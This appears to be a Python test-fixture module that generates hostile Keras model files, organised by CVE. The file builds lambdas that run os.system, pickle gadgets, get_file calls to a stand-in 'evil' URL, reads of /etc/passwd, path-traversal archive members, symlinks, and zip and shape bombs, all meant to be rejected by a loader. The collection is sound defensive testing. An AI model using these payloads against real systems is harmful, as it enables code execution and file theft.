"""Hostile files: one for each published hole of 2024 to 2026 in Keras' loading; spoilt archives, links and bombs.

Each is a name with the bytes of a file; all of them must end in a GraphError.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import tarfile
import warnings
import zipfile
from typing import Any

import h5py
import numpy as np

from tests.io.keras.files import (
    GOOD,
    OLD,
    archive,
    called,
    dense,
    entry,
    functional,
    good_weights,
    hdf5,
    old_weights,
    one_layer,
    tensor,
    whole,
)

_CODE = base64.b64encode(
    marshal.dumps(compile("lambda x: __import__('os').system('touch pwned')", "a", "eval"))
).decode()


class _Explosive:
    def __reduce__(self) -> Any:
        return (print, ("executed",))


def _layer(kind: str, module: str = "keras.layers", **config: Any) -> bytes:
    return archive(one_layer({"module": module, "class_name": kind, "config": config}))


def _activation(**function: Any) -> bytes:
    return archive(one_layer(dense("bad", activation=function)))


def _codes() -> dict[str, bytes]:
    code = {"class_name": "__lambda__", "config": {"code": _CODE, "defaults": None, "closure": None}}
    wrapped = {"module": "builtins", "class_name": "function", "config": "system", "registered_name": "system"}
    url = {"origin": "http://127.0.0.1:9/evil", "fname": "evil", "extract": True}
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    old_lambda = {
        "class_name": "Lambda",
        "config": {"name": "bad", "function": [_CODE, None, None], "function_type": "lambda", "module": "os"},
    }
    return {
        "CVE-2024-3660 lambda in an archive": _layer("Lambda", function=code, arguments={}),
        "CVE-2024-3660 lambda as an activation": _activation(**code),
        "CVE-2025-1550 a module's function as a layer": _layer("system", "os", command="touch pwned"),
        "CVE-2025-1550 a module's function as an activation": _activation(**{**wrapped, "module": "os"}),
        "CVE-2025-1550 a call in the arguments of a call": archive(
            functional(
                [
                    entry(),
                    called(
                        dense(),
                        [{"module": "os", "class_name": "system", "config": {"command": "touch pwned"}}, tensor("x")],
                    ),
                ],
                "dense",
            )
        ),
        "CVE-2025-8747 get_file in a Lambda": _layer("Lambda", function=get_file, arguments=url),
        "CVE-2025-8747 get_file as a layer": _layer("get_file", "keras.utils", **url),
        "CVE-2025-9905 lambda in HDF5": whole(
            {"class_name": "Sequential", "config": {"layers": [{**OLD["config"][0]}, old_lambda]}}
        ),
        "CVE-2025-9906 enable_unsafe_deserialization": _layer("enable_unsafe_deserialization", "keras.config"),
        "CVE-2025-9906 it as an initializer": archive(
            one_layer(
                dense(
                    "bad",
                    kernel_initializer={
                        "module": "keras.config",
                        "class_name": "function",
                        "config": "enable_unsafe_deserialization",
                    },
                )
            )
        ),
        "CVE-2025-12058 vocabulary from a file": _layer("StringLookup", vocabulary="/etc/passwd"),
        "CVE-2025-12058 vocabulary from a URL": _layer("TextVectorization", vocabulary="http://127.0.0.1:9/words"),
        "CVE-2025-12058 IntegerLookup from a file": _layer("IntegerLookup", vocabulary="/etc/passwd"),
        "CVE-2025-49655 TorchModuleWrapper": _layer(
            "TorchModuleWrapper", module=base64.b64encode(pickle.dumps(_Explosive())).decode()
        ),
        "CVE-2026-1462 TFSMLayer": _layer("TFSMLayer", filepath="saved_model", call_endpoint="serve"),
        "a layer of jax2tf": _layer("JaxLayer", call_fn=code),
    }


def _tar() -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as file:
        member = tarfile.TarInfo("../../evil")
        member.size = 4
        file.addfile(member, io.BytesIO(b"evil"))
    return stream.getvalue()


def _link() -> bytes:
    stream = io.BytesIO(archive(GOOD))
    with zipfile.ZipFile(stream, "a") as file:
        member = zipfile.ZipInfo("assets/link")
        member.external_attr = 0o120777 << 16
        file.writestr(member, "/etc/passwd")
    return stream.getvalue()


def _twice() -> bytes:
    stream = io.BytesIO(archive(GOOD))
    with zipfile.ZipFile(stream, "a") as file, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        file.writestr("config.json", json.dumps(GOOD))
    return stream.getvalue()


def _zip_bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("metadata.json", "{}")
        file.writestr("config.json", b"[" + b" " * (80 * 2**20) + b"]")
        file.writestr("model.weights.h5", b"")
    return stream.getvalue()


def _encrypted() -> bytes:
    data = bytearray(archive(GOOD))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def _archives() -> dict[str, bytes]:
    return {
        "CVE-2025-12060 a tar that leaves its folder": _tar(),
        "CVE-2025-12060 a member that leaves the archive": archive(GOOD, **{"../evil": b"evil"}),
        "an absolute member": archive(GOOD, **{"/etc/evil": b"evil"}),
        "a member with dots among the assets": archive(GOOD, **{"assets/../../evil": b"evil"}),
        "a stranger": archive(GOOD, **{"evil.py": b"evil"}),
        "a symbolic link": _link(),
        "a member twice": _twice(),
        "a zip bomb": _zip_bomb(),
        "an encrypted archive": _encrypted(),
        "no weights": archive(GOOD, b"not HDF5"),
        "an empty archive": b"PK\x05\x06" + bytes(18),
        "a cut archive": archive(GOOD)[:-40],
        "config.json that is no JSON": archive("{"),
        "a config of another thing": archive({"class_name": "Functional"}),
    }


def _stores() -> dict[str, bytes]:
    def soft(file: Any) -> None:
        file["elsewhere"] = np.zeros((4, 3), "float32")
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        file["layers/dense/vars/0"] = h5py.SoftLink("/elsewhere")

    def external_link(file: Any) -> None:
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        file["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")

    def external_storage(file: Any) -> None:
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        file.create_dataset("layers/dense/vars/0", (4, 3), "float32", external=[("/etc/passwd", 0, 48)])

    def virtual(file: Any) -> None:
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        layout = h5py.VirtualLayout((4, 3), "float32")
        layout[:] = h5py.VirtualSource("/etc/passwd", "x", (4, 3))
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    def references(file: Any) -> None:
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        file.create_dataset("layers/dense/vars/0", (4, 3), h5py.ref_dtype)

    def objects(file: Any) -> None:
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        file.create_dataset("layers/dense/vars/0", (4, 3), h5py.vlen_dtype(np.dtype("float32")))

    def filtered(file: Any) -> None:
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        file.create_dataset("layers/dense/vars/0", (4, 3), "int32", chunks=(4, 3), scaleoffset=2)

    def bomb(file: Any) -> None:
        file["layers/dense/vars/1"] = np.ones(3, "float32")
        file.create_dataset("layers/dense/vars/0", (2**20, 2**14), "float32", chunks=(1024, 1024), compression="gzip")

    def cycle(file: Any) -> None:
        file.create_group("layers/dense")["vars"] = file
        file["0"] = file["layers"]

    def wrong(file: Any) -> None:
        file["layers/dense/vars/0"] = np.zeros((4, 4), "float32")
        file["layers/dense/vars/1"] = np.ones(3, "float32")

    def named(file: Any) -> None:
        file["layers/dense/vars"] = np.dtype("float32")

    stores = {
        "a soft link": soft,
        "an external link": external_link,
        "CVE-2026-1669 external storage": external_storage,
        "a virtual data set": virtual,
        "references": references,
        "arrays of unlike lengths": objects,
        "an unknown filter": filtered,
        "a shape bomb": bomb,
        "a cycle of groups": cycle,
        "another shape": wrong,
        "a type where arrays belong": named,
        "nothing in it": lambda file: None,
    }
    files = {name: archive(GOOD, hdf5(fill)) for name, fill in stores.items()}
    bombed = functional([entry(shape=(None, 2**20)), called(dense(units=2**14), [tensor("x")])], "dense")
    return {**files, "a shape bomb that the graph asks for": archive(bombed, hdf5(bomb)), **_old_stores()}


def _old_stores() -> dict[str, bytes]:
    def linked(group: Any) -> None:
        old_weights({"dense": {"kernel": np.zeros((4, 3)), "bias": np.zeros(3)}})(group)
        del group["dense/dense/kernel:0"]
        group["dense/dense/kernel:0"] = h5py.ExternalLink("/etc/passwd", "/x")

    def listing(group: Any) -> None:
        group.attrs["layer_names"] = [b"../../dense"]

    def number(group: Any) -> None:
        group.attrs["layer_names"] = np.arange(3)

    def stored(group: Any) -> None:
        old_weights({"dense": {"bias": np.zeros(3)}})(group)
        group["dense"].attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
        group["dense"].create_dataset("dense/kernel:0", (4, 3), "float32", external=[("/etc/passwd", 0, 48)])

    return {
        "an old file with an external link": whole(OLD, linked),
        "CVE-2026-1669 an old file with external storage": whole(OLD, stored),
        "an old file with a listed parent": whole(OLD, listing),
        "an old file with numbers for names": whole(OLD, number),
        "an old file with missing layers": whole(OLD, old_weights({})),
    }


def _graphs() -> dict[str, bytes]:
    loop = functional([entry(), called(dense("a"), [tensor("b")]), called(dense("b"), [tensor("a")])], "b")
    deep: Any = GOOD
    for _ in range(40):
        deep = {"module": "keras", "class_name": "Sequential", "config": {"name": "deep", "layers": [entry(), deep]}}
    configs: dict[str, Any] = {
        "calls in a circle": loop,
        "a call on a layer that is not there": functional([entry(), called(dense(), [tensor("nobody")])], "dense"),
        "a call on a call that is not there": functional([entry(), called(dense(), [tensor("x", 7)])], "dense"),
        "an output that is not there": functional([entry(), called(dense(), [tensor("x")])], "nobody"),
        "a model within models without end": deep,
        "two layers of one name": functional(
            [entry(), called(dense(), [tensor("x")]), called(dense(), [tensor("dense")])], "dense"
        ),
        "a width beyond reason": one_layer(dense("bad", units=10**12)),
        "a weight beyond reason": functional(
            [entry(shape=(None, 2**20)), called(dense("bad", 2**20), [tensor("x")])], "bad"
        ),
        "a negative width": one_layer(dense("bad", units=-3)),
        "a width that is a text": one_layer(dense("bad", units="3")),
        "an input of negative size": functional([entry(shape=(None, -4)), called(dense(), [tensor("x")])], "dense"),
        "an argument of the wrong kind": one_layer(
            {"class_name": "Conv2D", "config": {"filters": {"a": 1}, "kernel_size": "no"}}
        ),
        "a config that is a list": {
            "class_name": "Functional",
            "config": {"layers": {}, "input_layers": 3, "output_layers": None},
        },
        "an unrolled loop without end": functional(
            [
                entry(shape=(None, 10**6, 2)),
                called({"class_name": "LSTM", "config": {"name": "bad", "units": 2, "unroll": True}}, [tensor("x")]),
            ],
            "bad",
        ),
        "an unknown class": one_layer({"class_name": "Evil", "config": {}}),
        "a dtype that is none": one_layer(dense("bad", dtype="object")),
    }
    files = {name: archive(config) for name, config in configs.items()}
    files["a nesting without end"] = archive("[" * 200_000 + "]" * 200_000)
    files["a number without end"] = archive(
        '{"class_name": "Functional", "config": {"layers": [' + "9" * 100_000 + "]}}"
    )
    files["values without end"] = archive("[" + "0," * 4_500_000 + "0]")
    return files


def hostile() -> dict[str, bytes]:
    """The whole corpus."""
    return {**_codes(), **_archives(), **_stores(), **_graphs()}


def harmless() -> dict[str, bytes]:
    """The files of which the others are spoilt copies."""
    return {"an archive": archive(GOOD), "an old file": whole(OLD), "weights": hdf5(good_weights)}
